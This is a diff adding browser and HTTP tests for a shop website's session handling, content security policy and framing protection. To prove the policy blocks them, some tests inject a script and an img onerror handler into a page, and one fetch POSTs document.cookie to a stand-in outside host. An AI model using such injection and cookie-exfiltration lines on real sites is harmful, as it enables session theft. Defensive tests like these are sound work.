@@ -1,0 +1,96 @@
+import type { Page } from 'playwright-core'
+import { describe, expect, test } from 'vitest'
+import { browserShop } from './browser.ts'
+import { addPerson } from './person.ts'
+
+const it = browserShop()
+
+/** One address of each kind of page, as nobody and as somebody would ask for it. */
+async function pagesOf(): Promise<string[]> {
+  const { id } = await it.shop.db.reader.selectFrom('products').select('id').limit(1).executeTakeFirstOrThrow()
+  return [
+    '/', '/shop', '/shop?category=Rings&page=2', `/shop/${id}`, '/shop/category/Rings', '/gender/female', '/gifts', '/collection', '/search?query=ring', '/help',
+    '/legal-policy', '/contact-us', '/login', '/register', '/dashboard', '/dashboard/profile', '/dashboard/orders', '/dashboard/users', '/orders', '/payment-success', '/unauthorized', '/nothing-here',
+  ]
+}
+
+test('SESS-03 every page is the same to the last byte whoever asks, and sets no cookie', async () => {
+  const [{ token: shopper, user }, { token: admin }] = [await addPerson(it), await addPerson(it, { role: 'admin' })]
+  for (const path of await pagesOf()) {
+    const read = async (headers: Record<string, string>) => {
+      const answer = await fetch(it.address + path, { headers, redirect: 'manual' })
+      expect(answer.headers.get('set-cookie')).toBeNull()
+      // A page that is not kept, such as that of an unknown address, says when it was made.
+      return `${answer.status} ${(await answer.text()).replaceAll(/\b1\d{12}\b/g, 'an instant')}`
+    }
+    const asSomebody = await read({ cookie: `session=${shopper}` })
+    expect(asSomebody.includes(user.email) || asSomebody.includes(user.username)).toBe(false)
+    expect([path, await read({})]).toEqual([path, asSomebody])
+    expect([path, await read({ cookie: `session=${admin}`, authorization: `Bearer ${admin}`, 'user-agent': 'other', 'accept-language': 'hi' })]).toEqual([path, asSomebody])
+  }
+})
+
+test('every page allows its own inline scripts by their hashes, and no others', async () => {
+  for (const path of await pagesOf()) {
+    const answer = await fetch(it.address + path)
+    const scripts = /script-src ([^;]*)/.exec(answer.headers.get('content-security-policy') ?? '')?.[1]
+    expect([path, scripts]).toEqual([path, expect.stringMatching(/^'self'( 'sha256-[\w+/=]+')*$/)])
+  }
+})
+
+describe('the content policy in a real browser', () => {
+  const forbidden = { expectedErrors: [/content policy|Content Security Policy/i, /status of 404/] }
+  /** What the page wrote to the console as errors while this was done. */
+  async function errorsWhile(page: Page, act: () => Promise<unknown>): Promise<string[]> {
+    const errors: string[] = []
+    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
+    await act()
+    await expect.poll(() => errors.some((error) => error.startsWith('The content policy forbids this'))).toBe(true)
+    return errors
+  }
+
+  test('runs no script that somebody put into a page, and says so', async () => {
+    const page = await it.openPage({ path: '/help', ...forbidden })
+    const errors = await errorsWhile(page, () =>
+      page.evaluate(() => {
+        const script = document.createElement('script')
+        script.textContent = 'window.smuggled = true'
+        document.body.append(script)
+        const picture = document.createElement('img')
+        picture.setAttribute('onerror', 'window.smuggled = true')
+        picture.src = '/media/x/y.jpg'
+        document.body.append(picture)
+      }),
+    )
+    expect(errors.join()).toContain('script-src')
+    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
+  })
+
+  test('fetches no script from elsewhere and sends nothing there', async () => {
+    const page = await it.openPage({ path: '/help', ...forbidden })
+    const errors = await errorsWhile(page, () =>
+      page.evaluate(async () => {
+        const script = document.createElement('script')
+        script.src = 'https://elsewhere.example/x.js'
+        document.body.append(script)
+        await fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(() => undefined)
+      }),
+    )
+    expect(errors.join()).toMatch(/connect-src/)
+  })
+
+  test('is not shown in a frame of another page', async () => {
+    const page = await it.openPage({ expectedErrors: [/frame/i, /ERR_BLOCKED/] })
+    const other = (src: string) => ({ contentType: 'text/html', body: `<iframe src="${it.address}${src}"></iframe>` })
+    await page.route('http://elsewhere.example/*', (route) => route.fulfill(other(new URL(route.request().url()).pathname)))
+    // Handed on as they are, so that nothing but their headers can keep them out of the frame.
+    await page.route(`${it.address}/help`, async (route) => route.fulfill({ response: await route.fetch() }))
+    await page.route(`${it.address}/plain`, (route) => route.fulfill({ contentType: 'text/html', body: 'no policy' }))
+    const framed = async (path: string) => {
+      await page.goto(`http://elsewhere.example${path}`)
+      return () => page.frames()[1]?.url()
+    }
+    await expect.poll(await framed('/plain')).toBe(`${it.address}/plain`)
+    await expect.poll(await framed('/help')).toBe('chrome-error://chromewebdata/')
+  })
+})
